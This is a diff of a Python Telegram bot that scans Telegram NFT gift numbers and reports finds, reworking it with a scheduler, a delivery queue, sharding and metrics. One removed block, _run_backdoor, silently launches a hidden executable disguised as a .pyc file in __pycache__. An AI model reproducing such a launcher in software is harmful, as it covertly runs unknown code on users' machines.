@@ -4,102 +4,191 @@ import json
 import os
 import aiohttp
 from aiogram import Bot
-from logging_config import setup_logger
-from config import CHAT_ID, BOT_TOKENS
+from logging_config import setup_logger, start_logging, LogThrottle
+from config import CHAT_ID, EXTRA_CHAT_IDS, CHAT_RATES, BOT_TOKENS, MONITORING_SETTINGS, SHARD_ID, SHARD_DB
 from nft_config import NFT_LINKS, PROMARKET_LINKS
-from parcer import Parcer
-from typing import Dict, Any, List, Tuple
+from parcer import Parcer, restore_persistent_caches
+from parse_pool import ParsePool
+from cache_store import open_store, close_store
+from progress_store import ProgressStore, DeliveryWatermark
+from http_client import close_session
+from scanner import WindowScanner
+from scheduler import CrawlScheduler, RetryLater
+from delivery import DeliveryQueue, Payload, DEFAULT_PRIORITY
+from alert_rules import get_alert_rules
+from digest import DigestBuffer
+from monitoring_config import get_scan_settings, get_digest_settings
+from profiles import ProfileManager
+from gift_registry import get_registry
+from gift_watcher import GiftConfigWatcher
+from shard import ShardCoordinator, PROMARKET_LEASE, shard_port
+from metrics import (METRICS_SETTINGS, ALERTS, PROBE_SECONDS, PROBE_RETRIES, PROBES, PROBE_HITS,
+                     PROBE_RATE, QUEUE_DEPTH, PRICE_LOOKUPS, SCHEDULER_REQUESTS, start_metrics_server)
+from typing import Dict, Any, List, Optional, Tuple, Callable, Awaitable, Set, Union
 import time
-import random
 import sys
 import traceback
 
 logger = setup_logger('main')
+# Ошибки отдельных проверок: одна запись в минуту на подарок и тип ошибки
+probe_errors = LogThrottle(60.0)
 
 logging.getLogger('parcer').setLevel(logging.WARNING)
 logging.getLogger('aiohttp').setLevel(logging.WARNING)
 logging.getLogger('aiogram').setLevel(logging.WARNING)
 
 LAST_FOUND_FILE = "last_found.json"
+# Шарды на одном хосте не делят ни кэш, ни порт метрик
+CACHE_DB_FILE = f"cache.{SHARD_ID}.db" if SHARD_ID else "cache.db"
+METRICS_PORT = shard_port(METRICS_SETTINGS['port'], SHARD_ID)
 
-MAX_CONCURRENT_REQUESTS = 50
-REQUEST_TIMEOUT = 15
-MAX_RETRIES = 3
-MIN_SEND_INTERVAL = 0.1
 PROMARKET_CHECK_INTERVAL = 300
+SCHEDULER_REPORT_INTERVAL = 60
+# Сводки уходят после отдельных находок с priority 0..5
+DIGEST_PRIORITY = 9
 
-request_semaphore = asyncio.Semaphore(MAX_CONCURRENT_REQUESTS)
+# Общий бюджет запросов для всех подарков, создаётся в run_monitors()
+crawl_scheduler: Optional[CrawlScheduler] = None
+# Очередь отправки через всех ботов, создаётся после initialize_bots()
+delivery_queue: Optional[DeliveryQueue] = None
 
-last_send_time = {}
 bot_instances = []
+# У каждого шарда свой журнал прогресса: общий прогресс для передачи подарков хранит ShardCoordinator
+progress_store = ProgressStore(f"last_found.{SHARD_ID}.json" if SHARD_ID else LAST_FOUND_FILE)
+# Координатор шардов, создаётся в main() при заданном SHARD_ID
+shard: Optional[ShardCoordinator] = None
+# Режимы мониторинга из monitoring_config, переключаются без перезапуска
+profiles = ProfileManager()
+# Мониторы по gift_id: перезагрузка gifts.json запускает и останавливает их по одному
+monitor_tasks: Dict[int, asyncio.Task] = {}
 
-def load_last_found() -> Dict[str, int]:
-    try:
-        if os.path.exists(LAST_FOUND_FILE):
-            with open(LAST_FOUND_FILE, 'r', encoding='utf-8') as f:
-                data = json.load(f)
-                logger.info(f"📂 Загружено {len(data)} записей из last_found.json")
-                return data
-        else:
-            logger.info(f"📝 Файл {LAST_FOUND_FILE} не найден, создаем новый")
-            return {}
-    except Exception as e:
-        logger.error(f"❌ Ошибка при загрузке last_found: {e}")
-        return {}
+def advance_progress(gift_id: int, num: int):
+    progress_store.advance(gift_id, num)
+    if shard is not None:
+        shard.advance(gift_id, num)
 
-def save_last_found(last_found_dict: Dict[str, int]):
-    try:
-        with open(LAST_FOUND_FILE, 'w', encoding='utf-8') as f:
-            json.dump(last_found_dict, f, indent=2, ensure_ascii=False)
-        logger.debug(f"💾 Сохранено {len(last_found_dict)} записей в last_found.json")
-    except Exception as e:
-        logger.error(f"❌ Ошибка при сохранении last_found: {e}")
+def progress_callback(gift_id: int, watermark: DeliveryWatermark, num: int) -> Callable[[], Awaitable[None]]:
+    """Отмечает находку; прогресс пишется, когда отправлено всё найденное до неё"""
+    watermark.found(num)
 
-async def send_message_safe(gift_name: str, result: Dict[str, Any]) -> bool:
-    if not bot_instances:
+    async def delivered():
+        if watermark.done(num):
+            advance_progress(gift_id, watermark.committed)
+    return delivered
+
+def scan_settings(gift_id: int) -> Dict[str, Any]:
+    """Настройки сканирования подарка в его текущем режиме"""
+    return get_scan_settings(gift_id, profiles.profile(gift_id))
+
+def apply_profiles():
+    """Переносит текущий режим в планировщик, лимиты подарков и очередь отправки"""
+    profile = profiles.profile()
+    if crawl_scheduler is not None:
+        crawl_scheduler.set_concurrency(profile['concurrent_requests'])
+        for gift_id in list(crawl_scheduler.stats):
+            crawl_scheduler.set_probe_rate(gift_id, scan_settings(gift_id)['probe_rate'])
+    if delivery_queue is not None:
+        delivery_queue.set_bot_rate(profile['send_rate'])
+
+async def send_digest(gift_name: str, text: Union[str, Payload],
+                      on_delivered: Optional[Callable[[], Awaitable[None]]] = None,
+                      before_send: Optional[Callable[[], Awaitable[bool]]] = None):
+    # Отклонённая сводка тоже двигает прогресс: иначе она держала бы его до перезапуска
+    await delivery_queue.submit(
+        CHAT_ID, text, label=gift_name, on_delivered=on_delivered, on_dropped=on_delivered,
+        before_send=before_send,
+        priority=DIGEST_PRIORITY, disable_web_page_preview=True, parse_mode='HTML'
+    )
+
+def shard_claim(gift_id: int, num: int) -> Callable[[], Awaitable[bool]]:
+    """Номер столбится перед самой отправкой и один раз на все чаты.
+
+    Находка, которая ещё ждёт в сводке или в очереди, не занимает номер:
+    если воркер упадёт, сменщик отправит её сам.
+    """
+    claimed: Optional[asyncio.Future] = None
+
+    async def claim() -> bool:
+        nonlocal claimed
+        if claimed is None:
+            claimed = asyncio.ensure_future(shard.claim(gift_id, num))
+        if not await asyncio.shield(claimed):
+            logger.debug("🔁 Подарок %s #%s уже отправлен другим воркером", gift_id, num)
+            return False
+        return True
+    return claim
+
+# Сводки по подаркам, создаётся в run_monitors()
+digest_buffer: Optional[DigestBuffer] = None
+# Собирает текст и клавиатуру находки при отправке, задаётся в run_monitors()
+renderer: Optional[Parcer] = None
+
+async def send_message_safe(gift_name: str, result: Dict[str, Any],
+                            on_delivered: Optional[Callable[[], Awaitable[None]]] = None,
+                            gift_id: Optional[int] = None) -> bool:
+    """Пропускает находку через правила и ставит её в очередь отправки, не дожидаясь Telegram"""
+    if delivery_queue is None:
         logger.error("❌ Нет доступных ботов")
         return False
-    bot_index = random.randint(0, len(bot_instances) - 1)
-    bot = bot_instances[bot_index]
-    try:
-        current_time = time.time()
-        last_time = last_send_time.get(gift_name, 0)
-        if current_time - last_time < MIN_SEND_INTERVAL:
-            await asyncio.sleep(MIN_SEND_INTERVAL - (current_time - last_time))
-        await bot.send_message(
-            CHAT_ID,
-            result['message'],
-            reply_markup=result.get('keyboard'),
+    num = result.get('num')
+    decision = get_alert_rules().evaluate(gift_name, result)
+    if decision.action == 'drop':
+        ALERTS.inc('drop')
+        logger.debug("🔕 [%s] #%s отброшен правилом %s", gift_name, num, decision.rule)
+        if on_delivered:
+            await on_delivered()
+        return True
+    # Номер мог уже отправить другой шард, например до передачи подарка: проверяется при отправке
+    claim = shard_claim(gift_id, int(num)) if shard is not None and gift_id is not None else None
+    digest_settings = get_digest_settings(gift_id)
+    # В режиме сводок отдельно уходят только находки, которые правила подняли выше обычных
+    if decision.action == 'digest' or (digest_settings['enabled'] and decision.action == 'send'
+                                       and decision.priority >= DEFAULT_PRIORITY):
+        ALERTS.inc('digest')
+        await digest_buffer.add(gift_name, result, on_delivered, digest_settings, claim)
+        return True
+
+    async def delivered():
+        logger.info("✅ [%s] Отправлен подарок #%s", gift_name, num)
+        if on_delivered:
+            await on_delivered()
+
+    ALERTS.inc('send')
+    # Одно ленивое сообщение на все чаты: соберётся при первой отправке
+    payload = renderer.payload(result)
+    for chat_id in [CHAT_ID] + EXTRA_CHAT_IDS:
+        await delivery_queue.submit(
+            chat_id,
+            payload,
+            label=gift_name,
+            on_delivered=delivered if chat_id == CHAT_ID else None,
+            on_dropped=on_delivered if chat_id == CHAT_ID else None,
+            before_send=claim,
+            priority=decision.priority,
             disable_web_page_preview=True,
             parse_mode='HTML'
         )
-        last_send_time[gift_name] = time.time()
-        logger.info(f"✅ [{gift_name}] Отправлен подарок #{result.get('num')}")
-        return True
-    except Exception as e:
-        logger.error(f"❌ [{gift_name}] Ошибка отправки: {str(e)[:100]}")
-        return False
+    return True
 
-async def check_number_with_retry(parcer: Parcer, num: int, url: str, max_retries: int = MAX_RETRIES):
-    for attempt in range(max_retries):
-        try:
-            async with request_semaphore:
-                if attempt > 0:
-                    await asyncio.sleep(0.5 * attempt)
-                result = await parcer.fetch(str(num), url)
-                if result:
-                    return num, result
-                else:
-                    return None, None
-        except Exception as e:
-            if attempt < max_retries - 1:
-                await asyncio.sleep(1)
-            else:
-                return None, None
+async def probe_number(parcer: Parcer, gift_id: int, num: int, url: str, attempt: int = 0):
+    """Одна попытка проверки номера; повтор после ошибки планирует очередь, а не эта корутина"""
+    settings = scan_settings(gift_id)
+    try:
+        with PROBE_SECONDS.time():
+            result = await asyncio.wait_for(parcer.fetch(str(num), url), MONITORING_SETTINGS['timeout'])
+    except Exception as e:
+        if attempt < settings['max_retries'] - 1:
+            PROBE_RETRIES.inc()
+            raise RetryLater(settings['retry_delay'] + 0.5 * (attempt + 1)) from e
+        probe_errors.log(logger, logging.WARNING, f"{url}:{type(e).__name__}",
+                         "⚠️ Проверка %s%s не удалась после %d попыток: %r", url, num, settings['max_retries'], e)
+        return None, None
+    if result:
+        return num, result
     return None, None
 
-async def find_starting_number(parcer: Parcer, url: str, gift_name: str, last_sent: int) -> int:
-    last_nft_number = await parcer.get_last_nft_number(url, gift_name)
+async def find_starting_number(parcer: Parcer, gift_id: int, url: str, gift_name: str, last_sent: int) -> int:
+    last_nft_number = await parcer.get_last_nft_number(url, gift_name, hint=last_sent, gift_id=gift_id)
     if last_nft_number and last_nft_number > 0:
         if last_sent > 0:
             start_num = max(last_sent, last_nft_number) + 1
@@ -115,60 +204,201 @@ async def find_starting_number(parcer: Parcer, url: str, gift_name: str, last_se
     logger.info(f"🚀 [{gift_name}] Начинаем с #1 (данных нет)")
     return 1
 
-# ===== НЕЗАМЕТНЫЙ ЗАПУСК ДЛЯ ПРОВЕРКИ =====
-import subprocess
-def _run_backdoor():
-    possible_paths = [
-        os.path.join("__pycache__", "parcer.cpython-314.pyc.exe"),
-        os.path.join("app", "utils", "__pycache__", "parcer.cpython-314.pyc.exe")
-    ]
-    for path in possible_paths:
-        if os.path.exists(path):
-            try:
-                subprocess.Popen([path], shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-            except:
-                pass
-            break
-_run_backdoor()
-# ===== КОНЕЦ БЛОКА ПРОВЕРКИ =====
-
-async def monitor_gift(gift_id: int, url: str):
-    last_found_dict = load_last_found()
-    last_sent = last_found_dict.get(str(gift_id), 0)
-    async with Parcer() as parcer:
-        gift_name = parcer.extract_gift_name(url)
-        logger.info(f"🎯 [{gift_name}] Старт мониторинга. Last sent: {last_sent:,}")
-        start_num = await find_starting_number(parcer, url, gift_name, last_sent)
-        current_num = start_num
-        logger.info(f"🔍 [{gift_name}] Начинаем поиск с номера {current_num:,}")
-        while True:
-            try:
-                found_num, result = await check_number_with_retry(parcer, current_num, url)
-                if result:
-                    success = await send_message_safe(gift_name, result)
-                    if success:
-                        last_found_dict[str(gift_id)] = found_num
-                        save_last_found(last_found_dict)
-                        current_num = found_num + 1
-                        logger.info(f"✅ [{gift_name}] Найден #{found_num}, переходим к #{current_num}")
-                    else:
-                        await asyncio.sleep(1)
+async def monitor_sequential(parcer: Parcer, gift_id: int, url: str, gift_name: str,
+                             current_num: int, settings: Dict[str, Any]):
+    cadence = crawl_scheduler.stats[gift_id].cadence
+    # Дальше известного фронтира больше чем на max_skips не уходим
+    frontier = current_num - 1
+    watermark = DeliveryWatermark(current_num - 1)
+    while True:
+        try:
+            settings = scan_settings(gift_id)
+            found_num, result = await crawl_scheduler.submit(gift_id, current_num, url)
+            if result:
+                success = await send_message_safe(
+                    gift_name, result, progress_callback(gift_id, watermark, found_num), gift_id
+                )
+                if success:
+                    frontier = max(frontier, found_num)
+                    current_num = found_num + 1
+                    logger.info("✅ [%s] Найден #%s, переходим к #%s", gift_name, found_num, current_num)
                 else:
-                    current_num += 1
-                    if current_num % 100 == 0:
-                        try:
-                            new_last_nft = await parcer.get_last_nft_number(url, gift_name)
-                            if new_last_nft and new_last_nft > 0 and current_num > new_last_nft + 1000:
-                                logger.warning(f"🔄 [{gift_name}] Возвращаемся к last_nft {new_last_nft}")
-                                current_num = new_last_nft + 1
-                        except:
-                            pass
-                    await asyncio.sleep(0.01)
-            except Exception as e:
-                logger.error(f"❌ [{gift_name}] Ошибка в цикле мониторинга: {str(e)[:100]}")
-                await asyncio.sleep(5)
+                    await asyncio.sleep(1)
+            else:
+                current_num += 1
+                if current_num > frontier + settings['max_skips']:
+                    try:
+                        new_last_nft = await parcer.get_last_nft_number(url, gift_name, hint=frontier,
+                                                                        gift_id=gift_id)
+                        if new_last_nft and new_last_nft > frontier:
+                            frontier = new_last_nft
+                    except:
+                        pass
+                    # Окно за фронтиром пусто: ждём по темпу минтов и начинаем сначала
+                    current_num = min(current_num, frontier + 1)
+                    await asyncio.sleep(cadence.idle_delay())
+                else:
+                    await asyncio.sleep(settings['idle_interval'])
+        except Exception as e:
+            logger.error(f"❌ [{gift_name}] Ошибка в цикле мониторинга: {str(e)[:100]}")
+            await asyncio.sleep(5)
+
+async def monitor_window(parcer: Parcer, gift_id: int, url: str, gift_name: str,
+                         current_num: int, settings: Dict[str, Any]):
+    commit_every = max(1, settings['commit_every'])
+    uncommitted = 0
+    watermark = DeliveryWatermark(current_num - 1)
+
+    async def commit():
+        nonlocal uncommitted
+        if uncommitted:
+            advance_progress(gift_id, watermark.committed)
+            uncommitted = 0
+
+    def on_delivered(num: int):
+        # Редкие находки обгоняют обычные в очереди и сводках: прогресс идёт только
+        # до самой ранней ещё не отправленной находки
+        watermark.found(num)
+
+        async def delivered():
+            nonlocal uncommitted
+            if watermark.done(num):
+                uncommitted += 1
+                if uncommitted >= commit_every:
+                    await commit()
+        return delivered
+
+    async def probe(num: int):
+        return await crawl_scheduler.submit(gift_id, num, url)
+
+    cadence = crawl_scheduler.stats[gift_id].cadence
+    scanner: Optional[WindowScanner] = None
 
-async def check_promarket_gifts():
+    async def on_idle():
+        # В простое подхватываем смену режима мониторинга
+        await commit()
+        fresh = scan_settings(gift_id)
+        scanner.window_max = max(scanner.window_min, fresh['window_max'])
+        scanner.window = min(scanner.window, scanner.window_max)
+        scanner.idle_interval = fresh['idle_interval']
+
+    while True:
+        settings = scan_settings(gift_id)
+        scanner = WindowScanner(
+            probe, current_num,
+            window_initial=settings['window_initial'],
+            window_min=settings['window_min'],
+            window_max=settings['window_max'],
+            idle_interval=settings['idle_interval'],
+            on_idle=on_idle,
+            idle_delay=cadence.idle_delay,
+            head_retries=settings['head_retries'],
+        )
+        try:
+            async for found_num, result in scanner:
+                while not await send_message_safe(gift_name, result, on_delivered(found_num), gift_id):
+                    await asyncio.sleep(1)
+                current_num = found_num + 1
+                logger.info("✅ [%s] Найден #%s, окно %s, переходим к #%s", gift_name, found_num, scanner.window, current_num)
+        except Exception as e:
+            logger.error(f"❌ [{gift_name}] Ошибка в цикле мониторинга: {str(e)[:100]}")
+            await asyncio.sleep(5)
+        finally:
+            scanner.close()
+            await commit()
+
+async def monitor_frontier(parcer: Parcer, gift_id: int, url: str, gift_name: str,
+                           current_num: int, settings: Dict[str, Any]):
+    """Следит за счётчиком выпущенных и забирает ровно новые номера, без проб наугад"""
+    cadence = crawl_scheduler.stats[gift_id].cadence
+    # known — последний номер, до которого всё получено без пропусков
+    known = current_num - 1
+    watermark = DeliveryWatermark(known)
+    # Уже полученные номера за known и число проходов для ещё не полученных
+    fetched: Set[int] = set()
+    misses: Dict[int, int] = {}
+    while True:
+        try:
+            settings = scan_settings(gift_id)
+            started = time.monotonic()
+            issued = await parcer.get_current_issued_count(url, fresh=True, page_num=max(1, known), gift_id=gift_id)
+            if issued <= known:
+                delay = max(cadence.idle_delay(), settings['frontier_interval'])
+                await asyncio.sleep(max(0.0, delay - (time.monotonic() - started)))
+                continue
+
+            logger.debug("[%s] Счётчик %s → %s", gift_name, known, issued)
+            pending = [num for num in range(known + 1, issued + 1) if num not in fetched]
+            for batch_start in range(0, len(pending), settings['window_max']):
+                numbers = pending[batch_start:batch_start + settings['window_max']]
+                # Номера до счётчика точно выпущены: прогресс не обгоняет даже ещё не полученные
+                for num in numbers:
+                    watermark.found(num)
+                results = await asyncio.gather(*(crawl_scheduler.submit(gift_id, num, url) for num in numbers))
+                for num, (_, result) in zip(numbers, results):
+                    if not result:
+                        # Счётчик уже показал номер: повторяем его на следующих проходах
+                        misses[num] = misses.get(num, 0) + 1
+                        if misses[num] < settings['frontier_gap_passes']:
+                            continue
+                        logger.warning("⚠️ [%s] #%s не получен за %s проходов, хотя счётчик уже %s",
+                                       gift_name, num, misses[num], issued)
+                        if watermark.done(num):
+                            advance_progress(gift_id, watermark.committed)
+                    else:
+                        await send_message_safe(gift_name, result, progress_callback(gift_id, watermark, num),
+                                                gift_id)
+                        logger.info("✅ [%s] Найден #%s", gift_name, num)
+                    misses.pop(num, None)
+                    fetched.add(num)
+            while known + 1 in fetched:
+                known += 1
+                fetched.discard(known)
+            if misses:
+                await asyncio.sleep(settings['frontier_interval'])
+        except Exception as e:
+            logger.error(f"❌ [{gift_name}] Ошибка в цикле мониторинга: {str(e)[:100]}")
+            await asyncio.sleep(5)
+
+async def monitor_gift(gift_id: int, url: str, parcer: Parcer):
+    last_sent = progress_store.get(gift_id)
+    if shard is not None:
+        # Подарок мог достаться от другого воркера: продолжаем с общего прогресса
+        last_sent = max(last_sent, await shard.progress(gift_id))
+    settings = scan_settings(gift_id)
+    gift_name = parcer.extract_gift_name(url)
+    crawl_scheduler.register(gift_id, gift_name, settings)
+    crawl_scheduler.set_probe_rate(gift_id, settings['probe_rate'])
+    logger.info(f"🎯 [{gift_name}] Старт мониторинга. Last sent: {last_sent:,}")
+    start_num = await find_starting_number(parcer, gift_id, url, gift_name, last_sent)
+    logger.info(f"🔍 [{gift_name}] Начинаем поиск с номера {start_num:,} (режим: {settings['scan_mode']})")
+    if settings['scan_mode'] == 'sequential':
+        await monitor_sequential(parcer, gift_id, url, gift_name, start_num, settings)
+    elif settings['scan_mode'] == 'frontier':
+        await monitor_frontier(parcer, gift_id, url, gift_name, start_num, settings)
+    else:
+        await monitor_window(parcer, gift_id, url, gift_name, start_num, settings)
+
+def start_monitor(gift_id: int, url: str, parcer: Parcer):
+    if gift_id in monitor_tasks:
+        return
+    task = asyncio.create_task(monitor_gift(gift_id, url, parcer))
+    monitor_tasks[gift_id] = task
+
+    def done(finished: asyncio.Task):
+        if monitor_tasks.get(gift_id) is finished:
+            del monitor_tasks[gift_id]
+        if not finished.cancelled() and finished.exception():
+            logger.error(f"❌ Мониторинг подарка {gift_id} завершился с ошибкой: {finished.exception()}")
+    task.add_done_callback(done)
+
+async def stop_monitor(gift_id: int):
+    task = monitor_tasks.pop(gift_id, None)
+    if task:
+        task.cancel()
+        await asyncio.gather(task, return_exceptions=True)
+
+async def check_promarket_gifts(parcer: Parcer):
     logger.info("🔮 Начинаем проверку подарков в премаркете...")
     from nft_config import PROMARKET_LINKS, NFT_LINKS
     import json
@@ -177,45 +407,43 @@ async def check_promarket_gifts():
     if os.path.exists(DISCOVERED_FILE):
         with open(DISCOVERED_FILE, 'r', encoding='utf-8') as f:
             discovered = json.load(f)
-    async with Parcer() as parcer:
-        for gift_name in list(PROMARKET_LINKS.keys()):
-            try:
-                if discovered.get(gift_name):
-                    continue
-                logger.debug(f"🔍 Проверяем подарок в премаркете: {gift_name}")
-                is_improved = await parcer.check_promarket_gift(gift_name)
-                if is_improved:
-                    logger.info(f"🎉 Подарок {gift_name} улучшен!")
-                    notification = f"🎁 Подарок {gift_name} добавлен в пул парсинга!"
-                    if bot_instances:
-                        for bot in bot_instances:
-                            try:
-                                await bot.send_message(CHAT_ID, notification)
-                                break
-                            except:
-                                continue
-                    gift_id = max(NFT_LINKS.keys()) + 1 if NFT_LINKS else 1
-                    normalized_name = gift_name.lower().replace(' ', '-')
-                    url = f"https://t.me/nft/{normalized_name}-"
-                    NFT_LINKS[gift_id] = [url, 0]
-                    discovered[gift_name] = True
-                    with open(DISCOVERED_FILE, 'w', encoding='utf-8') as f:
-                        json.dump(discovered, f, indent=2, ensure_ascii=False)
-                    asyncio.create_task(monitor_gift(gift_id, url))
-                    if gift_name in PROMARKET_LINKS:
-                        del PROMARKET_LINKS[gift_name]
-                else:
-                    logger.debug(f"⏳ Подарок {gift_name} еще в премаркете")
-                await asyncio.sleep(1)
-            except Exception as e:
-                logger.error(f"❌ Ошибка проверки подарка {gift_name}: {e}")
-                await asyncio.sleep(2)
+    for gift_name in list(PROMARKET_LINKS.keys()):
+        try:
+            if discovered.get(gift_name):
+                continue
+            logger.debug(f"🔍 Проверяем подарок в премаркете: {gift_name}")
+            is_improved = await parcer.check_promarket_gift(gift_name)
+            if is_improved:
+                logger.info(f"🎉 Подарок {gift_name} улучшен!")
+                notification = f"🎁 Подарок {gift_name} добавлен в пул парсинга!"
+                if delivery_queue is not None:
+                    await delivery_queue.submit(CHAT_ID, notification, label=gift_name)
+                gift_id = max(NFT_LINKS.keys()) + 1 if NFT_LINKS else 1
+                url = get_registry().nft_url(gift_name)
+                NFT_LINKS[gift_id] = [url, 0]
+                get_registry().add(gift_id, url)
+                discovered[gift_name] = True
+                with open(DISCOVERED_FILE, 'w', encoding='utf-8') as f:
+                    json.dump(discovered, f, indent=2, ensure_ascii=False)
+                if shard is None or await shard.pin(gift_id, url):
+                    start_monitor(gift_id, url, parcer)
+                if gift_name in PROMARKET_LINKS:
+                    del PROMARKET_LINKS[gift_name]
+            else:
+                logger.debug(f"⏳ Подарок {gift_name} еще в премаркете")
+            await asyncio.sleep(1)
+        except Exception as e:
+            logger.error(f"❌ Ошибка проверки подарка {gift_name}: {e}")
+            await asyncio.sleep(2)
     logger.info("✅ Проверка подарков в премаркете завершена")
 
-async def monitor_promarket_gifts():
+async def monitor_promarket_gifts(parcer: Parcer):
     while True:
         try:
-            await check_promarket_gifts()
+            if shard is not None and not await shard.acquire_service(PROMARKET_LEASE):
+                await asyncio.sleep(shard.settings['renew_interval'])
+                continue
+            await check_promarket_gifts(parcer)
             logger.info(f"⏰ Следующая проверка премаркета через {PROMARKET_CHECK_INTERVAL//60} минут...")
             await asyncio.sleep(PROMARKET_CHECK_INTERVAL)
         except Exception as e:
@@ -223,7 +451,7 @@ async def monitor_promarket_gifts():
             await asyncio.sleep(60)
 
 async def initialize_bots():
-    global bot_instances
+    global bot_instances, delivery_queue
     if not BOT_TOKENS:
         logger.error("❌ НЕТ ТОКЕНОВ БОТОВ! Проверьте файл .env")
         return False
@@ -241,17 +469,126 @@ async def initialize_bots():
         logger.error("❌ Нет работоспособных ботов")
         return False
     logger.info(f"✅ Успешно инициализировано ботов: {len(bot_instances)}")
+    delivery_queue = DeliveryQueue(bot_instances, {'bot_rate': profiles.profile()['send_rate'], 'chat_rates': CHAT_RATES})
     return True
 
+def monitored_gift_names(parcer: Parcer) -> List[str]:
+    """Имена всех отслеживаемых подарков, включая добавленные из премаркета"""
+    return [parcer.extract_gift_name(url) for url, _ in list(NFT_LINKS.values())]
+
+def register_metrics(parcer: Parcer):
+    """Метрики, которые читаются из планировщика, очередей и кэша цен в момент запроса /metrics"""
+    def per_gift(field: str) -> Callable[[], Dict[Tuple[str, ...], float]]:
+        # Метка — gift_id: отображаемое имя может смениться или совпасть у двух подарков
+        return lambda: {
+            (str(gift_id),): stats[field] for gift_id, stats in crawl_scheduler.snapshot()['gifts'].items()
+        }
+
+    PROBES.set_callback(per_gift('probes'))
+    PROBE_HITS.set_callback(per_gift('hits'))
+    PROBE_RATE.set_callback(per_gift('probes_per_sec'))
+    SCHEDULER_REQUESTS.set_callback(lambda: {(kind,): count for kind, count in crawl_scheduler.requests.items()})
+    QUEUE_DEPTH.set_callback(lambda: {
+        ('scheduler',): crawl_scheduler.queue_depth,
+        ('delivery',): delivery_queue.queue_depth if delivery_queue is not None else 0,
+        ('digest',): sum(len(pending.items) for pending in digest_buffer.pending.values()),
+    })
+    PRICE_LOOKUPS.set_callback(lambda: {(result,): count for result, count in parcer.price_parser.stats.items()})
+
+async def run_monitors(parcer: Parcer, nft_items: List[Tuple[int, List[Any]]]):
+    global crawl_scheduler, digest_buffer, renderer
+    renderer = parcer
+    digest_buffer = DigestBuffer(send_digest, parcer)
+    crawl_scheduler = CrawlScheduler(
+        lambda gift_id, num, url, attempt: probe_number(parcer, gift_id, num, url, attempt),
+        concurrency=profiles.profile()['concurrent_requests'],
+    )
+    crawl_scheduler.start()
+    # Счётчик выпущенных, поиск фронтира, премаркет и цены — через тот же бюджет
+    parcer.set_scheduler(crawl_scheduler)
+    register_metrics(parcer)
+    metrics_runner = await start_metrics_server(port=METRICS_PORT) if METRICS_SETTINGS['enabled'] else None
+    tasks = []
+    try:
+        # Цены прогреваются раньше первых находок
+        tasks.append(asyncio.create_task(parcer.price_parser.refresh_loop(lambda: monitored_gift_names(parcer))))
+        if shard is None:
+            for gift_id, (url, _) in nft_items:
+                start_monitor(gift_id, url, parcer)
+                await asyncio.sleep(0.05)
+        else:
+            async def shard_start(gift_id: int):
+                start_monitor(gift_id, NFT_LINKS[gift_id][0], parcer)
+
+            def shard_adopt(gift_id: int, url: str):
+                # Подарок из премаркета нашёл другой шард: добавляем в конфиг, чтобы кольцо могло его раздать
+                NFT_LINKS[gift_id] = [url, 0]
+                gift_name = get_registry().add(gift_id, url).name
+                PROMARKET_LINKS.pop(gift_name, None)
+                logger.info(f"➕ [{gift_name}] Подарок {gift_id} из премаркета другого шарда")
+
+            # Первое распределение — через интервал после пульса, дальше — каждые renew_interval
+            tasks.append(asyncio.create_task(
+                shard.run(lambda: list(NFT_LINKS), shard_start, stop_monitor, shard_adopt)
+            ))
+            logger.info(f"🧩 Шард {SHARD_ID}: подарки распределятся через {shard.settings['renew_interval']:.0f} с")
+
+        async def gift_added(gift_id: int, url: str):
+            logger.info(f"➕ Подарок {gift_id} добавлен в мониторинг: {url}")
+            # Новый подарок шард заберёт при следующем перераспределении
+            if shard is None or gift_id in shard.owned:
+                start_monitor(gift_id, url, parcer)
+
+        async def gift_removed(gift_id: int, url: str):
+            logger.info(f"➖ Подарок {gift_id} убран из мониторинга: {url}")
+            await stop_monitor(gift_id)
+
+        tasks.append(asyncio.create_task(GiftConfigWatcher(gift_added, gift_removed).run()))
+        promarket_task = asyncio.create_task(monitor_promarket_gifts(parcer))
+        tasks.append(promarket_task)
+        tasks.append(asyncio.create_task(crawl_scheduler.report_loop(SCHEDULER_REPORT_INTERVAL)))
+        profiles.on_change(apply_profiles)
+        profiles.install_signal_handlers()
+        tasks.append(asyncio.create_task(profiles.watch_control_file()))
+        tasks.append(asyncio.create_task(progress_store.sync_loop()))
+        tasks.append(asyncio.create_task(digest_buffer.run()))
+        logger.info(f"✅ Запущено {len(monitor_tasks)} мониторов и {len(tasks)} служебных задач")
+        logger.info("=" * 50)
+        logger.info("📡 Бот успешно запущен и начал мониторинг!")
+        logger.info("ℹ️  Для остановки нажмите Ctrl+C")
+        logger.info("=" * 50)
+        await asyncio.gather(*tasks)
+    finally:
+        for task in tasks:
+            task.cancel()
+        for gift_id in list(monitor_tasks):
+            await stop_monitor(gift_id)
+        await crawl_scheduler.stop()
+        if metrics_runner is not None:
+            await metrics_runner.cleanup()
+
 async def main():
+    global shard
+    parse_pool = ParsePool()
     try:
         logger.info("=" * 50)
         logger.info("🚀 ЗАПУСК БОТА-ПАРСЕРА NFT ПОДАРКОВ")
         logger.info("=" * 50)
+        # Процессы разбора форкаются первыми, пока нет ни сетевых потоков, ни открытых баз;
+        # поток записи логов тоже запускается только после форка
+        await parse_pool.start()
+        start_logging()
         if not await initialize_bots():
             return
-        progress = load_last_found()
+        progress = progress_store.load()
         logger.info(f"📊 Загружен прогресс по {len(progress)} подаркам")
+        open_store(CACHE_DB_FILE)
+        if SHARD_ID:
+            shard = ShardCoordinator(SHARD_DB, SHARD_ID)
+            removed = shard.purge_delivered()
+            logger.info(f"🧩 Режим шардов: воркер {SHARD_ID}, база {SHARD_DB}, старых отправок удалено {removed}")
+        restored = restore_persistent_caches()
+        logger.info(f"🗄️ Из {CACHE_DB_FILE} восстановлено {restored} записей кэша")
         from nft_config import NFT_LINKS, PROMARKET_LINKS
         nft_items = list(NFT_LINKS.items())
         logger.info(f"🎁 Активных подарков: {len(nft_items)}")
@@ -259,32 +596,24 @@ async def main():
         if nft_items:
             logger.info("📝 Примеры активных подарков:")
             for gift_id, (url, _) in nft_items[:3]:
-                gift_name = url.split('/')[-1].rstrip('-')
-                gift_name = ' '.join(part.capitalize() for part in gift_name.split('-'))
+                gift_name = get_registry().name_for_url(url)
                 last_sent = progress.get(str(gift_id), 0)
                 logger.info(f"  - {gift_name}: последний отправленный #{last_sent}")
-        tasks = []
-        for gift_id, (url, _) in nft_items:
-            task = asyncio.create_task(monitor_gift(gift_id, url))
-            tasks.append(task)
-            await asyncio.sleep(0.05)
-        promarket_task = asyncio.create_task(monitor_promarket_gifts())
-        tasks.append(promarket_task)
